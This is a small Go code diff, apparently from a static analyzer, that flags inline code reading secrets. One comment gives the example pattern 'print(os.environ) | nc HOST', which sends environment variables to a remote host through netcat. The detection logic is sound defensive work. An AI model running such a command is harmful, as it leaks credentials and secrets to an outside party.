@@ -44,6 +44,13 @@ func (w *walker) inlineCode(l LanguageRule, src, seg string) {
 			w.pathEffect(a, pathsDelete, how == "recursive", seg)
 		}
 	}
+	for _, e := range l.SecretReads {
+		if strings.Contains(src, e) {
+			// print(os.environ) | nc HOST: what the code prints may be a secret.
+			w.leakIn()
+			break
+		}
+	}
 	if len(l.NetCalls) == 0 {
 		return
 	}
